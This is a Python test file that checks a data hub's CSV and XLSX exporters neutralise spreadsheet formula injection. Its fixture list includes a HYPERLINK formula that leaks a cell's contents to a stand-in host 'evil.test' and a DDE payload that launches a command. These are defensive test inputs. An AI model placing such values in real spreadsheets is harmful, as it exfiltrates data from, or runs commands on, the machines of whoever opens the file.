"""Exports never carry a live formula (RELIABILITY F8, ASVS 5.0 1.2.10)."""

import codecs
import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from hub.ingest import values as v
from hub.ingest.export import neutralise, write_csv, write_xlsx
from hub.ingest.table import Cell, read_table

INJECTIONS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"x")',
    "@SUM(1,1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "  =1+1",
]
HEADER = ["企业名称", "罚款金额", "处罚日期"]
ROWS: list[list[Cell]] = [
    [t, Decimal("1000.50"), date(2026, 3, 15)] for t in INJECTIONS
]
FORMULA = re.compile(rb"<f[\s/>]")
TEXT = st.text(st.characters(blacklist_categories=["Cs"]), max_size=30)


def formulas(xlsx: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        return sum(len(FORMULA.findall(archive.read(n))) for n in sheets)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[3:].decode(), newline="")))


# neutralise


@pytest.mark.parametrize("text", [*INJECTIONS, "\n=1", "=", " -"])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "无锡市锡山区环保科技有限公司", "a=b", "  hello", "1+1", "'=1"]
)
def test_plain_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_nul_is_removed_before_the_check() -> None:
    assert (neutralise("\x00=1+1"), neutralise("a\x00b")) == ("'=1+1", "ab")


@given(TEXT)
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    assert neutralise(text).lstrip(" ")[:1] not in set("=+-@\t\r\n")


# CSV


def test_csv_exact_bytes() -> None:
    data = write_csv(
        ["名称", "n", "amount", "day", "at", "ok", "none"],
        [
            [
                "=1+1",
                7,
                Decimal("1E+3"),
                date(2026, 3, 5),
                datetime(2026, 3, 5, 8, 0),
                True,
                None,
            ]
        ],
    )

    assert (
        data
        == codecs.BOM_UTF8
        + (
            '"名称","n","amount","day","at","ok","none"\r\n'
            '"\'=1+1",7,1000,"2026-03-05","2026-03-05 08:00:00","是",""\r\n'
        ).encode()
    )


def test_csv_prefixes_and_quotes_every_injection() -> None:
    data = write_csv(HEADER, ROWS)

    assert csv_rows(data) == [HEADER] + [
        ["'" + t, "1000.50", "2026-03-15"] for t in INJECTIONS
    ]
    assert (
        '"\'=HYPERLINK(""http://evil.test/?x=""&A1,""x"")",1000.50,"2026-03-15"\r\n'
        in data.decode("utf-8-sig")
    )


def test_csv_round_trips_through_the_importer() -> None:
    table = read_table(write_csv(HEADER, ROWS), "export.csv")

    assert (table.encoding, table.header) == ("utf-8-sig", HEADER)
    assert [cells[0] for _, cells in table.rows] == [
        ("'" + t).replace("\r", "\n") for t in INJECTIONS
    ]
    for _, cells in table.rows:
        assert v.amount(cells[1], unit=v.MoneyUnit.YUAN) == Decimal("1000.50")
        assert v.calendar_date(cells[2]) == date(2026, 3, 15)


@given(TEXT)
def test_any_text_survives_csv(text: str) -> None:
    assert csv_rows(write_csv(["a"], [[text]]))[1] == [neutralise(text)]


# XLSX


def test_plain_openpyxl_would_write_a_formula() -> None:
    # The trap the writer avoids; also shows that `formulas` can see one.
    book = openpyxl.Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.append([INJECTIONS[0]])
    buffer = io.BytesIO()
    book.save(buffer)

    assert formulas(buffer.getvalue()) == 1


def test_xlsx_has_no_formula_elements() -> None:
    assert formulas(write_xlsx(HEADER, ROWS)) == 0


def test_xlsx_keeps_text_unchanged_and_numbers_as_numbers() -> None:
    data = write_xlsx(HEADER, ROWS, sheet_title="处罚")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["处罚"]

    texts = [sheet.cell(row=r, column=1) for r in range(2, len(INJECTIONS) + 2)]
    assert [c.data_type for c in texts] == ["s"] * len(INJECTIONS)
    assert [c.value for c in texts] == [t.replace("\r", "\n") for t in INJECTIONS]
    amount, day = sheet.cell(row=2, column=2), sheet.cell(row=2, column=3)
    assert (amount.data_type, amount.value) == ("n", 1000.5)
    assert (day.value, day.number_format) == (datetime(2026, 3, 15), "yyyy-mm-dd")


def test_xlsx_drops_characters_xml_cannot_hold() -> None:
    data = write_xlsx(["a"], [["甲\x00乙\x07丙\x1f"]])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    assert sheet["A2"].value == "甲乙丙"


def test_xlsx_round_trips_through_the_importer() -> None:
    table = read_table(write_xlsx(HEADER, ROWS), "export.xlsx")

    assert table.header == HEADER
    assert table.rows[0] == (2, [INJECTIONS[0], 1000.5, datetime(2026, 3, 15)])


@given(TEXT)
def test_any_text_is_never_a_formula_in_xlsx(text: str) -> None:
    assert formulas(write_xlsx(["a"], [[text, "=" + text]])) == 0
